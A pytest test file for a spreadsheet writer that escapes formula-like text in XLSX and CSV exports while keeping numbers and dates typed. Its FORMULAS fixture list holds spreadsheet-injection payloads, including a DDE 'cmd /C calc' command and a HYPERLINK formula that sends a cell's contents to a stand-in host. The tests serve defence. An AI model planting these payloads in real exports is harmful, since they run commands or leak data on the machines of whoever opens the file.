"""The one spreadsheet writer: text that a spreadsheet would run as a formula is written as
text (an XLSX string cell, a CSV field with a leading apostrophe), while numbers and dates
stay numbers and dates. Files are read back as an office would: openpyxl and csv."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from outreach.common.spreadsheets import Column, Kind, Table, csv_text, starts_like_formula, workbook_bytes

# What an attacker (or a careless paste) puts into a name, an address or a note.
FORMULAS = [
    '=HYPERLINK("http://e.vil/?"&B2,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
]
HARMLESS = ["张三", "绣湖路1号-2", "a=b", "13900000000", "", " =1"]


def formula_table() -> Table:
    columns = [
        Column("姓名"),
        Column("电话", Kind.CODE),
        Column("人数", Kind.INT),
        Column("比例", Kind.PERCENT),
        Column("日期", Kind.DATE),
        Column("数", Kind.NUMBER),
    ]
    rows = [[text, text, -3, 0.5, date(2026, 3, 1), -1.5] for text in FORMULAS]
    return Table("=SUM(A1)", columns, rows=rows, total=["=合计", "", -3, 0.5, None, -1.5], notes=["=注：1+1"])


@pytest.mark.parametrize("text", FORMULAS)
def test_every_formula_sign_is_recognised(text):
    assert starts_like_formula(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_not_a_formula(text):
    assert not starts_like_formula(text)


def test_xlsx_writes_formula_text_as_string_cells_and_keeps_numbers():
    sheet = load_workbook(io.BytesIO(workbook_bytes([formula_table()]))).worksheets[0]
    formulas = [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    body = list(sheet.iter_rows(min_row=2, max_row=1 + len(FORMULAS)))
    for text, row in zip(FORMULAS, body):
        name, phone, count, share, day, number = row
        # The text as the person typed it (XML reads a carriage return back as a line feed).
        assert (name.value, name.data_type) == (text.replace("\r", "\n"), "s")
        assert phone.data_type == "s"
        assert (count.value, count.data_type) == (-3, "n")
        assert (share.value, share.number_format) == (0.5, "0.0%")
        assert day.is_date and day.value.date() == date(2026, 3, 1)
        assert (number.value, number.data_type) == (-1.5, "n")
    total = list(sheet[1 + len(FORMULAS) + 1])
    assert (total[0].value, total[0].data_type) == ("=合计", "s")
    note = sheet.cell(sheet.max_row, 1)
    assert (note.value, note.data_type) == ("=注：1+1", "s")


def test_csv_prefixes_formula_text_with_an_apostrophe_and_keeps_numbers():
    rows = list(csv.reader(io.StringIO(csv_text(formula_table()).removeprefix("\ufeff"), newline="")))
    body = rows[1 : 1 + len(FORMULAS)]
    for text, row in zip(FORMULAS, body):
        assert row == ["'" + text, "'" + text, "-3", "50.0%", "2026-03-01", "-1.5"]
    assert rows[1 + len(FORMULAS)][:3] == ["'=合计", "", "-3"]
    assert rows[-1] == ["'=注：1+1"]


def test_ordinary_text_is_written_as_it_is():
    table = Table("t", [Column("名称"), Column("编码", Kind.CODE)], rows=[[t, t] for t in HARMLESS if t])
    rows = list(csv.reader(io.StringIO(csv_text(table).removeprefix("\ufeff"))))
    assert rows[1:] == [[t, t] for t in HARMLESS if t]
    sheet = load_workbook(io.BytesIO(workbook_bytes([table]))).worksheets[0]
    assert [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)] == [t for t in HARMLESS if t]
